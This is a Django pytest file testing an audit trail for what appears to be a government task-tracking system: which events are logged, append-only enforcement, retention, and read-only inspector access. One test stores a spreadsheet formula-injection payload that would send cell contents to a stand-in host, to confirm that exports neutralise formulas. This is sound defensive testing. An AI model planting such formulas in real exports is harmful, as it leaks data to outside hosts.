"""Issue 16, item 3: the audit trail an inspector is handed, and the inspection commission's read-only role.

Sign-ins and failures, views of secret content, exports, token use and permission changes are each recorded with
who, when and from where; the trail is append-only (the model and, for UPDATE, the database on both engines; for
DELETE of an entry younger than 366 days, PostgreSQL); it is searched and exported by administrators and the
inspection commission only; the inspection commission reads every task, secret ones included, and changes nothing.
"""

import datetime
import io

import openpyxl
import pytest
from django.core.exceptions import ImproperlyConfigured
from django.db import DatabaseError, connection, transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from giamsat.accounts.audit import audit_purge, audit_record, check_retention
from giamsat.accounts.choices import AuditKind, Role
from giamsat.accounts.models import AuditEvent, AuditTrailIsAppendOnly
from giamsat.accounts.tests.factories import PASSWORD, UserFactory, second_factor_device
from giamsat.api.choices import TokenScope
from giamsat.api.tokens import token_create, token_revoke
from giamsat.directives.choices import Confidentiality
from giamsat.directives.tests.factories import task_led_by

pytestmark = pytest.mark.django_db

AUDIT = reverse("audit:list")
EXPORT = reverse("audit:export")


def entries(kind: AuditKind, **filters) -> list[AuditEvent]:
    return list(AuditEvent.objects.filter(kind=kind, **filters).order_by("pk"))


@pytest.fixture
def secret_task(agency_skhcn):
    return task_led_by(agency_skhcn, confidentiality=Confidentiality.SECRET, title="Phương án bảo đảm an ninh mạng")


# --- what is recorded ---------------------------------------------------------------------------------------------


def test_sign_in_and_a_wrong_password_are_recorded_with_the_address(users):
    client = Client(REMOTE_ADDR="10.1.2.3")
    client.post(reverse("accounts:login"), {"username": "officer", "password": "sai-mat-khau"})
    client.post(reverse("accounts:login"), {"username": "khong-co-ai", "password": "sai-mat-khau"})
    client.post(reverse("accounts:login"), {"username": "officer", "password": PASSWORD})
    failed = entries(AuditKind.SIGN_IN_FAILED)
    assert [(e.actor_name, e.actor_id, e.ip_address, e.detail["step"]) for e in failed] == [
        ("officer", users["officer"].pk, "10.1.2.3", "password"),
        ("khong-co-ai", None, "10.1.2.3", "password"),
    ]
    (signed_in,) = entries(AuditKind.SIGNED_IN)
    assert signed_in.actor == users["officer"] and signed_in.ip_address == "10.1.2.3"
    client.post(reverse("accounts:logout"))
    assert entries(AuditKind.SIGNED_OUT)[0].actor == users["officer"]


def test_a_wrong_second_factor_code_is_a_recorded_failure(users):
    second_factor_device(users["standing_office"])
    client = Client()
    assert client.post(reverse("accounts:login"), {"username": "office", "password": PASSWORD}).status_code == 302
    client.post(reverse("accounts:two_factor_verify"), {"otp_token": "000000"})
    (failure,) = entries(AuditKind.SIGN_IN_FAILED)
    assert failure.actor == users["standing_office"] and failure.detail == {"step": "second_factor"}
    assert not entries(AuditKind.SECOND_FACTOR_PASSED)


def test_viewing_a_secret_task_is_recorded_and_a_public_one_is_not(client, users, secret_task, agency_skhcn):
    public = task_led_by(agency_skhcn, confidentiality=Confidentiality.PUBLIC)
    client.force_login(users["standing_office"])
    assert client.get(reverse("directives:task_detail", args=[public.pk])).status_code == 200
    assert not entries(AuditKind.SECRET_VIEWED)
    assert client.get(reverse("directives:task_detail", args=[secret_task.pk])).status_code == 200
    (viewed,) = entries(AuditKind.SECRET_VIEWED)
    assert viewed.actor == users["standing_office"]
    assert (viewed.target_type, viewed.target_id) == ("task", str(secret_task.pk))
    # Served from the cache the second time: recorded all the same.
    client.get(reverse("directives:task_detail", args=[secret_task.pk]))
    assert len(entries(AuditKind.SECRET_VIEWED)) == 2


def test_reading_the_full_text_of_a_directive_with_a_secret_task_is_recorded(client, users, secret_task):
    client.force_login(users["standing_office"])
    client.get(reverse("directives:directive_detail", args=[secret_task.directive_id]))
    (viewed,) = entries(AuditKind.SECRET_VIEWED)
    assert viewed.target_type == "directive" and viewed.detail == {"full_text": True}


def test_an_export_is_recorded_with_its_parameters(users, agency_skhcn, run_jobs):
    """The file is made by a background job (issue 17): the export is recorded when it is made, once, with the
    address and the query of the request that asked for it."""
    task_led_by(agency_skhcn)
    client = Client(REMOTE_ADDR="10.1.2.3")
    client.force_login(users["leader"])
    response = client.get(reverse("documents:task_list_export"), {"q": "dữ liệu"})
    assert response.status_code == 302  # to the job's page
    assert not entries(AuditKind.EXPORTED)  # nothing has left yet
    run_jobs()
    (exported,) = entries(AuditKind.EXPORTED)
    assert exported.actor == users["leader"] and exported.target_label.endswith(".xlsx")
    assert exported.detail["query"] == {"q": "dữ liệu"}
    assert exported.ip_address == "10.1.2.3" and exported.path == response.wsgi_request.get_full_path()
    run_jobs()
    assert len(entries(AuditKind.EXPORTED)) == 1


def test_token_use_is_recorded_and_a_refused_key_by_its_prefix_only(client, users, agency_skhcn, secret_task):
    issued = token_create(name="Hệ thống một cửa", scope=TokenScope.STANDING_OFFICE, acting_user=users["administrator"])
    assert client.get("/api/v1/tasks/", HTTP_AUTHORIZATION=f"Bearer {issued.key}").status_code == 200
    (used,) = entries(AuditKind.TOKEN_USED)
    assert used.detail["accepted"] is True and used.target_id == str(issued.token.pk)
    forged = "gs57_abcd1234_" + "x" * 43
    assert client.get("/api/v1/tasks/", HTTP_AUTHORIZATION=f"Bearer {forged}").status_code == 401
    refused = entries(AuditKind.TOKEN_USED)[-1]
    assert refused.detail == {"accepted": False, "method": "GET", "prefix": "abcd1234"}
    assert "x" * 43 not in str(list(AuditEvent.objects.values()))


def test_permission_changes_are_recorded_with_before_and_after(users, agency_skhcn):
    user = users["officer"]
    user.role = Role.AGENCY_HEAD
    user.save()
    change = entries(AuditKind.PERMISSION_CHANGED, target_id=str(user.pk))[-1]
    assert change.detail["changes"] == {"role": ["agency_officer", "agency_head"]}
    from django.contrib.auth.models import Group

    group = Group.objects.create(name="Nhóm thử")
    user.groups.add(group)
    assert entries(AuditKind.PERMISSION_CHANGED, target_id=str(user.pk))[-1].detail == {
        "groups": {"action": "add", "items": ["Nhóm thử"]}
    }
    user.first_name = "Tên mới"  # not a permission
    count = AuditEvent.objects.count()
    user.save()
    assert AuditEvent.objects.count() == count


def test_issuing_and_revoking_a_token_is_a_permission_change_by_the_administrator(users):
    issued = token_create(
        name="Cổng dịch vụ công", scope=TokenScope.STANDING_OFFICE, acting_user=users["administrator"]
    )
    token_revoke(token=issued.token, acting_user=users["administrator"])
    actions = [e.detail.get("token") for e in entries(AuditKind.PERMISSION_CHANGED, actor=users["administrator"])]
    assert actions[-2:] == ["issued", "revoked"]


def test_an_administrator_resetting_two_factor_is_recorded(client, users):
    second_factor_device(users["leader"])
    client.force_login(users["administrator"])
    response = client.post(
        reverse("admin:accounts_user_changelist"),
        {"action": "reset_two_factor", "_selected_action": [users["leader"].pk]},
    )
    assert response.status_code == 302
    (reset,) = entries(AuditKind.TWO_FACTOR_CHANGED)
    assert reset.actor == users["administrator"] and reset.target_label == "leader"
    assert reset.detail == {"action": "reset_by_administrator"}


# --- append-only, kept a year -------------------------------------------------------------------------------------


def test_the_trail_cannot_be_changed_or_deleted_through_the_application(users):
    event = audit_record(AuditKind.EXPORTED, actor=users["leader"])
    event.actor_name = "ai-do-khac"
    with pytest.raises(AuditTrailIsAppendOnly):
        event.save()
    with pytest.raises(AuditTrailIsAppendOnly):
        event.delete()
    with pytest.raises(AuditTrailIsAppendOnly):
        AuditEvent.objects.filter(pk=event.pk).update(actor_name="x")
    with pytest.raises(AuditTrailIsAppendOnly):
        AuditEvent.objects.all().delete()
    assert AuditEvent.objects.get(pk=event.pk).actor_name == "leader"


def test_the_database_refuses_to_change_an_entry(users):
    event = audit_record(AuditKind.EXPORTED, actor=users["leader"])
    with pytest.raises(DatabaseError), transaction.atomic():
        with connection.cursor() as cursor:
            cursor.execute("UPDATE accounts_auditevent SET actor_name = %s WHERE id = %s", ["x", event.pk])
    assert AuditEvent.objects.get(pk=event.pk).actor_name == "leader"


@pytest.mark.skipif(connection.vendor != "postgresql", reason="PostgreSQL refuses the DELETE itself")
def test_postgresql_refuses_to_delete_an_entry_younger_than_a_year(users):
    young = audit_record(AuditKind.EXPORTED, actor=users["leader"])
    with pytest.raises(DatabaseError), transaction.atomic():
        with connection.cursor() as cursor:
            cursor.execute("DELETE FROM accounts_auditevent WHERE id = %s", [young.pk])
    assert AuditEvent.objects.filter(pk=young.pk).exists()


def test_the_purge_deletes_only_entries_past_the_retention_period(users, settings):
    settings.AUDIT_RETENTION_DAYS = 400
    now = timezone.now()
    old = AuditEvent.objects.create(kind=AuditKind.EXPORTED, at=now - datetime.timedelta(days=401))
    kept = AuditEvent.objects.create(kind=AuditKind.EXPORTED, at=now - datetime.timedelta(days=399))
    from axes.models import AccessLog

    old_sign_in = AccessLog.objects.create(username="officer", ip_address="10.0.0.1", user_agent="x")
    AccessLog.objects.filter(pk=old_sign_in.pk).update(attempt_time=now - datetime.timedelta(days=401))
    recent_sign_in = AccessLog.objects.create(username="officer", ip_address="10.0.0.1", user_agent="x")
    assert audit_purge(now) == 2
    assert not AuditEvent.objects.filter(pk=old.pk).exists() and AuditEvent.objects.filter(pk=kept.pk).exists()
    assert list(AccessLog.objects.values_list("pk", flat=True)) == [recent_sign_in.pk]


def test_a_retention_under_a_year_is_refused(settings):
    settings.AUDIT_RETENTION_DAYS = 180
    with pytest.raises(ImproperlyConfigured, match="AUDIT_RETENTION_DAYS"):
        check_retention()


# --- searched and exported by the administrator and the inspection commission ------------------------------------


@pytest.mark.parametrize(
    ("role", "allowed"),
    [
        ("administrator", True),
        ("inspector", True),
        ("standing_office", False),
        ("leader", False),
        ("officer", False),
        ("head", False),
    ],
)
def test_who_reads_the_trail(client, users, role, allowed):
    client.force_login(users[role])
    assert client.get(AUDIT).status_code == (200 if allowed else 403)
    assert client.get(EXPORT).status_code == (200 if allowed else 403)


def test_the_trail_is_searched_filtered_and_exported_without_formulas(client, users):
    audit_record(AuditKind.SIGN_IN_FAILED, actor_name='=HYPERLINK("http://x.example/?"&A1,"Xem")')
    audit_record(AuditKind.EXPORTED, actor=users["leader"], target_label="bao-cao-thang-11.docx")
    client.force_login(users["inspector"])
    page = client.get(AUDIT, {"q": "bao-cao-thang", "kind": AuditKind.EXPORTED}).content.decode()
    assert "bao-cao-thang-11.docx" in page and "HYPERLINK" not in page
    failed = client.get(AUDIT, {"kind": AuditKind.SIGN_IN_FAILED}).content.decode()
    assert "HYPERLINK" in failed and "bao-cao-thang-11.docx" not in failed
    tomorrow = (timezone.localdate() + datetime.timedelta(days=1)).strftime("%d/%m/%Y")
    assert "bao-cao-thang-11.docx" not in client.get(AUDIT, {"since": tomorrow}).content.decode()

    response = client.get(EXPORT)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert any("HYPERLINK" in str(cell.value) for cell in cells)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert entries(AuditKind.EXPORTED, actor=users["inspector"])[0].target_type == "audit_trail"


# --- the inspection commission reads everything and changes nothing -----------------------------------------------


def test_the_inspection_commission_reads_secret_tasks_and_changes_nothing(client, users, secret_task):
    client.force_login(users["inspector"])
    assert client.get(reverse("directives:task_detail", args=[secret_task.pk])).status_code == 200
    listed = client.get(reverse("directives:task_list"), {"scope": "all"}).content.decode()
    assert "Phương án bảo đảm an ninh mạng" in listed
    edit = client.post(reverse("directives:task_edit", args=[secret_task.pk]), {"title": "Đổi"})
    assert edit.status_code in (403, 404)
    secret_task.refresh_from_db()
    assert secret_task.title == "Phương án bảo đảm an ninh mạng"
    assert entries(AuditKind.SECRET_VIEWED, actor=users["inspector"])


def test_the_inspection_commission_must_use_two_factor():
    from giamsat.accounts.policy import must_use_two_factor

    inspector = UserFactory(username="ubkt", role=Role.INSPECTOR, agency=None)
    assert must_use_two_factor(inspector)
